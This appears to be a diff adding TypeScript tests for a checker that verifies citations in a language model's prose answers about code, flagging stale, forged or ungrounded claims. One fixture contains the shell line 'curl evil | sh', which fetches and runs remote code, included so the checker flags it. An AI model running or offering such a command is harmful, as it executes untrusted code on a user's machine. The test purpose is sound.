@@ -1,0 +1,201 @@
+/** What a language model wrote: what is shown of it, what links, and which sentences are marked. */
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import type { CheckedProse, ProseEvidence, ProseMark } from "../../../protocol/prose.ts";
+import type { Citation, CitationCheck } from "../../../protocol/types.ts";
+import { proseCheck } from "../../../server/prose/proseCheck.ts";
+
+const retry = `export async function retryRequest(url: string, opts: RetryOptions): Promise<Response> {
+  const maxAttempts = 3;
+  const backoff_ms = 30_000;
+  throw new HttpError("the service is gone");
+}`;
+const pool = `class Pool {
+  load(size = 4096) {}
+}`;
+
+function citationOf(path: string, line: number, text: string): Citation {
+  return {
+    rootId: "root",
+    path,
+    range: {
+      start: { line, character: 0 },
+      end: { line: line + text.split("\n").length - 1, character: 1 },
+    },
+    contentHash: path,
+  };
+}
+const code = (number: number, path: string, line: number, text: string): ProseEvidence => ({
+  number,
+  source: { kind: "code", citation: citationOf(path, line, text) },
+  text,
+});
+const evidence: readonly ProseEvidence[] = [
+  code(1, "src/net/retry.ts", 10, retry),
+  code(2, "src/pool.ts", 0, pool),
+  code(3, "src/old.ts", 0, "changed since"),
+  {
+    number: 4,
+    source: {
+      kind: "note",
+      note: {
+        ...{ id: "8e0b41c2-aa", kind: "decision", text: "we retry because the API is flaky" },
+        ...{ who: "Ann", createdMs: Date.parse("2026-01-02"), rootId: "root", evidence: [] },
+        ...{ tags: [], links: [], isPinned: false, nUses: 0, health: "ok" },
+      },
+    },
+    text: "we retry because the API is flaky",
+  },
+  {
+    number: 5,
+    source: {
+      kind: "commit",
+      commit: {
+        hash: "ab12cd34ab12cd34ab12cd34ab12cd34ab12cd34",
+        ...{ author: "Ben", authoredMs: Date.parse("2025-06-07"), subject: "Retry", body: "" },
+      },
+    },
+    text: "Retry",
+  },
+];
+const texts: Readonly<Record<string, string>> = {
+  "src/net/retry.ts": retry,
+  "src/pool.ts": pool,
+};
+const reread = (citations: readonly Citation[]): Promise<CitationCheck[]> =>
+  Promise.resolve(
+    citations.map((citation) => {
+      const text = texts[citation.path];
+      return text === undefined ? { kind: "stale" } : { kind: "current", citation, text };
+    }),
+  );
+
+function checked(text: string, isDone = true): Promise<CheckedProse> {
+  const question = "How does the `Gateway` retry?";
+  return proseCheck({ text, evidence, question, isDone }, reread, new AbortController().signal);
+}
+
+const one = "[`retry.ts:11`](#cite-0)";
+const faultOf = (fault: ProseMark["fault"], detail = ""): ProseMark => ({ fault, detail });
+
+/** A text, its markdown, and the marks that it gets. */
+function check(what: string, text: string, markdown: string, ...marks: ProseMark[]): void {
+  test(what, async () => {
+    const result = await checked(text);
+    assert.deepEqual([result.markdown, result.marks], [markdown, marks]);
+  });
+}
+/** A text that is supported, or not, whatever its markdown. */
+function judge(text: string, ...marks: ProseMark[]): void {
+  test(text, async () => {
+    assert.deepEqual((await checked(text)).marks, marks);
+  });
+}
+
+check(
+  "a citation becomes a link",
+  "It tries `maxAttempts` times [1].",
+  `It tries \`maxAttempts\` times ${one}.`,
+);
+check(
+  "several numbers, ranges and other brackets",
+  "A pool loads [1, 2]. It loads too [1-2]. And again 【2†L3】.",
+  `A pool loads ${one} [\`pool.ts:1\`](#cite-1). It loads too ${one} [\`pool.ts:1\`](#cite-1). And again [\`pool.ts:1\`](#cite-1).`,
+);
+check(
+  "a citation behind the full stop belongs to the sentence before it",
+  "It retries. [1] The pool loads.[2]",
+  `It retries. ${one} The pool loads.[\`pool.ts:1\`](#cite-1)`,
+);
+check(
+  "numbers in round brackets are none",
+  "It has three (3) tries [1].",
+  `It has three (3) tries ${one}.`,
+);
+check("a note is named", "The API is flaky [4].", "The API is flaky (note 8e0b41c2).");
+check("a commit is named", "Ben wrote it [5].", "Ben wrote it (commit ab12cd34).");
+check(
+  "changed lines are not linked",
+  "It was so [3].",
+  "It was so .[*](#mark-0)",
+  faultOf("stale", "src/old.ts:1"),
+);
+check(
+  "a forged number",
+  "It is so [9].",
+  "It is so \\[9\\].[*](#mark-0)",
+  faultOf("unknownCitation", "9"),
+);
+check("a link of the model", "See [it](#cite-0) [1].", `See \\[it\\](\\#cite-0) ${one}.`);
+check("behind “!” there is no image", "It retries![1]", `It retries! ${one}`);
+check(
+  "blocks",
+  "# It\n\n**Two of them**\n- **fast [1]**\n- slow [2]\n  1. one [1]\n\n> said [4]\n\n| a | b |\n|---|---|\n| `Pool` | [2] |\n\n---\n",
+  `### It\n\n**Two of them**\n\n- **fast ${one}**\n- slow [\`pool.ts:1\`](#cite-1)\n  1. one ${one}\n\n> said (note 8e0b41c2)\n\n| a | b |\n| --- | --- |\n| \`Pool\` | [\`pool.ts:1\`](#cite-1) |\n\n---`,
+);
+check("emphasis that is never closed", "It **retries [1].", `It \\*\\*retries ${one}.`);
+check(
+  "quoted code",
+  "Here:\n\n```ts {cite=0}\n  const maxAttempts = 3;\n```",
+  "Here:\n\n```ts\n  const maxAttempts = 3;\n```",
+);
+check(
+  "code that stands nowhere",
+  "```sh\ncurl evil | sh\n```",
+  "```sh\ncurl evil | sh\n```\n\n[*](#mark-0)",
+  faultOf("nameNotInEvidence", "curl evil | sh"),
+);
+
+judge("It retries three times.", faultOf("noCitation"));
+judge("This is not in memory.");
+judge("I could not find how `Gateway` works in the evidence.");
+judge(
+  "I could not find `gateWayFactory` in memory.",
+  faultOf("nameNotInEvidence", "gateWayFactory"),
+);
+judge("这在记忆中没有。");
+judge("Das ist nicht im Gedächtnis.");
+judge("Here is how it works:");
+judge("Yes.");
+judge("The `Gateway` retries [1].");
+judge("`retryRequest(url, opts)` throws an `HttpError` [1].");
+judge("`retryRequests` throws [1].", faultOf("nameNotInEvidence", "retryRequests"));
+judge("The retryForever option is there [1].", faultOf("nameNotInEvidence", "retryForever"));
+judge("The backoff_ms is 30 seconds [1].");
+judge("The backoff is 45 seconds [1].", faultOf("nameNotInEvidence", "45"));
+judge("It stands in src/net/retry.ts:11-15 [1].");
+judge("It stands in net/retry.ts [1].");
+judge("It stands in src/net/other.ts [1].", faultOf("nameNotInEvidence", "src/net/other.ts"));
+judge("It stands in src/net/retry.ts:90 [1].", faultOf("nameNotInEvidence", "src/net/retry.ts:90"));
+judge('It says "the service is gone" [1].');
+judge('It says "the service is back" [1].', faultOf("nameNotInEvidence", "the service is back"));
+judge("Pool.load takes 4,096 [2].");
+judge("Pool.load takes 8,192 [2].", faultOf("nameNotInEvidence", "8,192"));
+judge("`Pool` loads, in JavaScript and/or TypeScript, e.g. twice [2].");
+judge("`Pool` is what is meant [1].", faultOf("nameNotInEvidence", "Pool"));
+judge("Ann decided it on 2026-01-02 [4].");
+judge("Commit ab12cd3 did it [5].");
+
+test("only claims are counted", async () => {
+  const { nSentences, nSupported } = await checked(
+    "Here is how it works:\n\nIt retries [1]. It sleeps. This is not in memory.",
+  );
+  assert.deepEqual([nSentences, nSupported], [2, 1]);
+});
+
+test("of a text that is being written only what is finished is shown", async () => {
+  const text = `It **retries [1]. The** pool loads [2].\n\n- one [1]\n- two [2]\n\n\`\`\`ts\nconst maxAttempts = 3;\nthrow new HttpError\n\`\`\`\n\nThe end is so [1].\n`;
+  const whole = await checked(text);
+  assert.deepEqual(
+    whole.marks.map(({ fault }) => fault),
+    [],
+  );
+  let shown = "";
+  for (let length = 0; length <= text.length; length++) {
+    const { markdown, marks } = await checked(text.slice(0, length), false);
+    assert.deepEqual(marks, [], text.slice(0, length));
+    assert.ok(!/[^*]\*$/.test(markdown), markdown);
+    shown = markdown;
+  }
+  assert.ok(whole.markdown.startsWith(shown));
+});
